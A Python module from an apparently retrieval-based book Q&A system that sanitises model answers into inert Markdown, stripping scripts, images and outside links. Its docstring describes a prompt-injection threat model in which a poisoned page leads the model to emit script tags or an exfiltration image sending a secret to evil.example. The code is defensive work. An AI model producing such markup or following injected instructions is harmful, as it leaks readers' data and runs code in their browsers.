"""Answers as inert Markdown: no executable HTML, no images, no links off the book's site.

Threat: a model that follows an injected instruction (from a question, a selection or a poisoned
book page) writes markup that runs in, or leaks data from, the reader's browser: ``<script>``,
``<img onerror>``, a ``javascript:`` link, or a zero-click exfiltration image such as
``![x](https://evil.example/p.png?q=SECRET)``. Whatever the model wrote, an answer leaves here as
Markdown that a renderer, even one with raw HTML enabled, turns into text and links to the book:

- fenced code blocks (fences at the start of a line) and inline code spans are kept as they are
  (a Markdown renderer shows their content as text), except that a URL to another host loses its
  query string, where exfiltrated data would travel;
- elsewhere, HTML comments and script-like elements go with their content, tags of HTML elements
  are dropped (their text kept), and every other ``<`` is escaped (``&lt;``), so no tag, no raw
  HTML block and no ``<url>`` autolink survive;
- images are removed entirely, alt text included;
- a link is kept when its target is relative (``/docs/x``, ``#anchor``) or on one of the book's
  hosts, and is rebuilt with a clean target; any other link (another host, ``//host``,
  ``javascript:``, ``data:``...) is reduced to its text; link reference definitions are removed;
- a bare URL (``https://...``, ``www...``, ``host.tld/path?...``) to another host is reduced to
  its host name, defanged (``evil[.]example``): no path, no query string;
- safety nets escape any ``![``, ``](`` and ``]:`` the parser did not consume, so a construct it
  misread cannot become an image, an inline link or a reference definition in the renderer.

``StreamSanitizer`` (``rag.safety.stream_markdown``) applies the same rules to an answer arriving
in pieces: it passes plain words through at once and holds back anything that could still become
markup until its block is complete, so no prefix of the stream ever renders as HTML, an image or
an outside link.

Host policy and link targets are in ``rag.safety.links``, code blocks and spans in
``rag.safety.markdown_code``, what counts as HTML in ``rag.safety.html_tags``.
"""

from __future__ import annotations

import re
from collections.abc import Collection

from rag.safety.html_tags import (
    ATTR_TAG_RE,
    COMMENT_RE,
    CONTENT_ELEMENT_RE,
    TAG_RE,
    drop_markup_tag,
    drop_tag,
)
from rag.safety.links import (
    LINK_REMOVED,
    SCHEME_RE,
    defang_host,
    link_destination,
    matching_bracket,
    safe_link_target,
)
from rag.safety.markdown_code import code_queries, fenced_segments, hold_code_spans
from rag.safety.placeholders import Held, strip_invisible

_AUTOLINK_RE = re.compile(r"<([A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>")
_EMAIL_AUTOLINK_RE = re.compile(r"<([\w.!#$%&'*+/=?^`{|}~-]+@[A-Za-z0-9.-]+)>")
_DEFINITION_RE = re.compile(r"^ {0,3}\[(?:[^\]\\]|\\.)+\]:.*$", re.MULTILINE)
_BARE_URL_RE = re.compile(
    r"(?i)(?<![\w/@.-])(?:(?:https?|ftp)://|www\.)[^\s<>\ue000\ue001]*"
    r"|(?<![\w/@.:-])(?:[a-z0-9](?:[a-z0-9-]*[a-z0-9])?\.)+[a-z]{2,24}(?::\d+)?[/?#][^\s<>\ue000\ue001]*"
)
_DANGEROUS_SCHEME_RE = re.compile(r"(?i)\b(?:javascript|vbscript|livescript|data|file)\s*:\S+")


def sanitize_markdown(text: str, hosts: Collection[str] = (), *, at_line_start: bool = True) -> str:
    """``text`` as inert Markdown (see the module docstring for the rules).

    Args:
        text: an answer, or a fragment of one.
        hosts: host names links may point to (``normalise_hosts``); empty: relative links only.
        at_line_start: False when ``text`` continues a line already sent (a stream), so its first
            line cannot open a code fence.
    """
    text = strip_invisible(text)
    out: list[str] = []
    for is_code, segment in fenced_segments(text, at_line_start=at_line_start):
        out.append(code_queries(segment, hosts) if is_code else _clean_prose(segment, hosts))
    return "".join(out)


def _rewrite_links(text: str, hosts: Collection[str], held: Held) -> str:
    """Remove images; keep allowed links (rebuilt, held); reduce other links to their text."""
    out: list[str] = []
    i = 0
    while i < len(text):
        char = text[i]
        if char == "\\" and i + 1 < len(text):
            out.append(text[i : i + 2])
            i += 2
            continue
        is_image = char == "!" and text.startswith("[", i + 1)
        if char != "[" and not is_image:
            out.append(char)
            i += 1
            continue
        open_at = i + 1 if is_image else i
        close = matching_bracket(text, open_at)
        if close is None:
            out.append(char)
            i += 1
            continue
        label = text[open_at + 1 : close]
        after = text[close + 1 : close + 2]
        # "[text][label]" needs a definition, and none survives: it stays text ("[2][3]")
        destination = link_destination(text, close + 1) if after == "(" else None
        if destination is None:
            if is_image:  # ![alt] or ![alt][label]: no definition can resolve it; drop it anyway
                i = close + 1
                continue
            out.append("[")
            i = open_at + 1
            continue
        target, end = destination
        if is_image:
            i = end
            continue
        inner = _clean_inline(label, hosts, held)
        safe = safe_link_target(target, hosts)
        out.append(held.hold(f"[{inner}]({safe})") if safe else inner)
        i = end
    return "".join(out)


def _autolink(match: re.Match[str], hosts: Collection[str], held: Held) -> str:
    url = match.group(1)
    safe = safe_link_target(url, hosts)
    if safe is not None and SCHEME_RE.match(url):
        return held.hold(f"[{_escape_link_text(url)}]({safe})")
    return defang_host(url) if re.match(r"(?i)^(https?|ftp)://", url) else LINK_REMOVED


def _bare_url(match: re.Match[str], hosts: Collection[str], held: Held) -> str:
    url = match.group(0)
    # trailing punctuation is not part of the URL (GFM), nor an unbalanced ")"
    trail = ""
    while url and (
        url[-1] in "?!.,:;*_~'\"" or (url[-1] == ")" and url.count(")") > url.count("("))
    ):
        trail = url[-1] + trail
        url = url[:-1]
    if not url:
        return match.group(0)
    absolute = url if re.match(r"(?i)^[a-z][a-z0-9+.-]*://", url) else f"https://{url}"
    if safe_link_target(absolute, hosts) is not None:
        return held.hold(url) + trail
    return defang_host(url) + trail


def _escape_link_text(text: str) -> str:
    return re.sub(r"([\[\]\\])", r"\\\1", text)


def _clean_inline(text: str, hosts: Collection[str], held: Held) -> str:
    """Links, images, HTML and URLs of a prose run (code spans already held)."""
    text = _rewrite_links(text, hosts, held)
    text = _AUTOLINK_RE.sub(lambda m: _autolink(m, hosts, held), text)
    text = _EMAIL_AUTOLINK_RE.sub(lambda m: m.group(1), text)
    for _ in range(8):  # nested tricks such as <scr<script></script>ipt>
        cleaned = COMMENT_RE.sub("", CONTENT_ELEMENT_RE.sub("", text))
        cleaned = TAG_RE.sub(drop_tag, cleaned)
        if cleaned == text:
            break
        text = cleaned
    text = text.replace("<", "&lt;")
    text = _BARE_URL_RE.sub(lambda m: _bare_url(m, hosts, held), text)
    text = _DANGEROUS_SCHEME_RE.sub(LINK_REMOVED, text)
    # safety nets: nothing left may open an image, an inline link or a reference definition
    return text.replace("![", "!\\[").replace("](", "]\\(").replace("]:", "]\\:")


def _clean_prose(text: str, hosts: Collection[str]) -> str:
    held = Held()
    text = hold_code_spans(text, held, hosts)
    text = _DEFINITION_RE.sub("", text)
    return held.restore(_clean_inline(text, hosts, held))


def snippet_text(text: str, hosts: Collection[str] = ()) -> str:
    """``text`` as plain text for display (a source snippet): no markup that could act.

    Images go, links keep only their text, HTML comments and script-like elements go with their
    content, tags of HTML elements and any tag with attributes go (``std::vector<double>``
    stays), and URLs to other hosts are reduced to their defanged host. Nothing is escaped: a
    client shows the result as text.
    """
    held = Held()
    text = _rewrite_links(strip_invisible(text), hosts, held)
    text = held.restore(text)  # allowed links: their text is enough
    text = re.sub(r"\[([^\]]*)\]\([^)]*\)", r"\1", text)
    text = _AUTOLINK_RE.sub(lambda m: defang_host(m.group(1)), text)
    for _ in range(8):
        cleaned = COMMENT_RE.sub("", CONTENT_ELEMENT_RE.sub("", text))
        cleaned = ATTR_TAG_RE.sub(drop_markup_tag, cleaned)
        if cleaned == text:
            break
        text = cleaned
    text = _BARE_URL_RE.sub(lambda m: _bare_url(m, hosts, held), text)
    return held.restore(_DANGEROUS_SCHEME_RE.sub(LINK_REMOVED, text))
